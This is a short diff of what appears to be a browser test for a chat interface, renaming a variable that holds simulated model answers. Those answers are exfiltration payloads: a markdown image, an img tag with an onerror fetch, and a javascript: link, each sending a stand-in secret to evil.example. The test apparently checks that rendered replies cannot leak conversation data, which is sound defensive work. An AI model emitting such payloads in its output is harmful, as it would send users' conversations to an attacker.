@@ -6,7 +6,7 @@ import { setStage } from './stage.ts'
 const stage = setStage()
 
 const stolen = 'conversation-as-a-secret'
-const said = [
+const answerText = [
   `![a](https://evil.example/pixel?q=${stolen})`,
   `<img src="https://evil.example/tag?q=${stolen}" onerror="fetch('https://evil.example/js?q=${stolen}')">`,
   `[click](javascript:fetch('https://evil.example/link?q=${stolen}'))`,
@@ -30,7 +30,7 @@ describe('An answer', () => {
     const answering = stage.model.take('show me')
     await ask(page, 'show me')
     const answer = await answering
-    answer.say(said)
+    answer.say(answerText)
     answer.finish()
     await page.getByText('The end.').waitFor()
     await page.waitForTimeout(500)
